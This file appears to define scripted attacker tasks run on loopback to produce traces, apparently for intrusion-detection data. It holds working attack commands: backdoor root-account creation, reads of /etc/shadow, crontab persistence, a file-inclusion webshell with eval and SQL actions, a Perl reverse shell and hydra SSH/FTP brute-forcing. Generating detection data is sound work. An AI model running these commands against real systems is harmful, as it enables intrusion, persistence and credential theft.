# What an attacker does, one task a line: NAME<tab>TIMES<tab>COMMAND<tab>HELPER. Only `>>` lines' processes are traced; of the
# others it is the services that are traced, as an attacker from elsewhere would be seen. A helper (the attacker's end) never is.
# Loopback only, in a root of its own.
>>adduser	4	/opt/game "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sys$i; echo sys$i:word$i | chpasswd; id sys$i"
>>adduser	4	/opt/game "adduser --quiet --disabled-password --gecos x ops$i; usermod -aG sudo ops$i 2>/dev/null || usermod -aG adm ops$i; echo ops$i:w$i | chpasswd"
>>adduser	3	/opt/game "echo 'dbs$i::0:0::/root:/bin/bash' >> /etc/passwd; pwconv; passwd -d dbs$i; su dbs$i -c id"
>>meterpreter	4	/opt/stager $((4400+i)) $((i%4))	/opt/talk $((4400+i)) "u" "l/root" "g/etc/passwd" "t" "cid; uname -a; ls /home" "q"
>>meterpreter	4	/opt/stager $((4420+i)) $((i%4))	/opt/talk $((4420+i)) "m" "s" "p/tmp/.x$i" "ccat /etc/shadow; netstat -an; ps aux; w" "l/etc" "q"
>>meterpreter	3	/opt/stager $((4440+i)) $((i%4))	/opt/talk $((4440+i)) "l/var/www/html" "g/var/www/html/wiki.php" "t" "t" "cfind / -perm -4000 -type f" "ccrontab -l; (echo '@reboot /tmp/.x') | crontab -; crontab -r" "u" "q"
>>java	4	java -cp /opt/jobs Back $((4500+i))	/opt/talk $((4500+i)) "u" "l/root" "g/etc/passwd" "t" "cid; uname -a; ls /home" "q"
>>java	4	java -cp /opt/jobs Back $((4520+i))	/opt/talk $((4520+i)) "m" "s" "p/tmp/.j$i" "ccat /etc/shadow; ps aux; w" "l/etc" "cps" "q"
webshell	5	B="http://localhost/wiki.php?theme=/opt/shell.txt"; for d in / /etc /root /home /var/www /tmp; do curl -s "$B" -d a=ls -d d=$d -o /dev/null; done; for f in /etc/passwd /proc/version /etc/apache2/apache2.conf /root/.bashrc; do curl -s "$B" -d a=cat -d d=$f -o /dev/null; done
webshell	5	B="http://localhost/wiki.php?theme=/opt/shell.txt"; for x in id 'uname -a' 'ls -la /home' 'cat /etc/passwd' 'ps aux' 'which wget curl gcc nc' 'netstat -an'; do curl -s "$B" -d a=cmd --data-urlencode "x=$x" -o /dev/null; done; curl -s "$B" -d a=popen -d 'x=find / -perm -4000 -type f' -o /dev/null
webshell	4	B="http://localhost/wiki.php?theme=/opt/shell.txt"; curl -s "$B" -d a=put -d d=/tmp/.w$i -d x=IyEvYmluL3NoCmlkCg== -o /dev/null; curl -s "$B" -d a=cmd -d x=/tmp/.w$i -o /dev/null; curl -s "$B" -d a=proc --data-urlencode "x=id; cd /tmp; ls; echo x > .y; rm .y" -o /dev/null; curl -s "$B" -d a=eval --data-urlencode x=JGY9Z2xvYigiL2V0Yy8qIik7IGZvcmVhY2goJGYgYXMgJGcpIGVjaG8gQG1kNV9maWxlKCRnKTs= -o /dev/null
webshell	4	B="http://localhost/wiki.php?theme=/opt/shell.txt"; curl -s "$B" -d a=scan -o /dev/null; curl -s "$B" -d a=find -d d=/var -o /dev/null; curl -s "$B" -d a=sql --data-urlencode 'x=show databases' -o /dev/null; curl -s "$B" -d a=sql --data-urlencode 'x=select user from mysql.user' -o /dev/null
webshell	4	B="http://localhost/wiki.php?theme=/opt/shell.txt"; (echo id; echo ls /; echo cat /etc/passwd; sleep 0.5) | nc -l -p $((4600+i)) -q1 >/dev/null & sleep 0.2; curl -s -m 4 "$B" -d a=back -d x=$((4600+i)) -o /dev/null; wait
webshell	3	B="http://localhost/wiki.php?theme=/opt/shell.txt"; (echo id; echo uname -a; echo exit; sleep 0.5) | nc -l -p $((4700+i)) -q1 >/dev/null & sleep 0.2; curl -s -m 4 "$B" -d a=cmd --data-urlencode "x=perl -e 'use Socket;socket(S,2,1,6);connect(S,sockaddr_in($((4700+i)),inet_aton(\"127.0.0.1\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");'" -o /dev/null; wait
hydra_ssh	9	hydra -q -t $((i%4+1)) -l $(echo root worker admin | cut -d' ' -f$((i%3+1))) -P /opt/words -f ssh://127.0.0.1
hydra_ftp	7	hydra -q -t $((i%4+1)) -l $(echo worker root ftp | cut -d' ' -f$((i%3+1))) -P /opt/words ftp://127.0.0.1
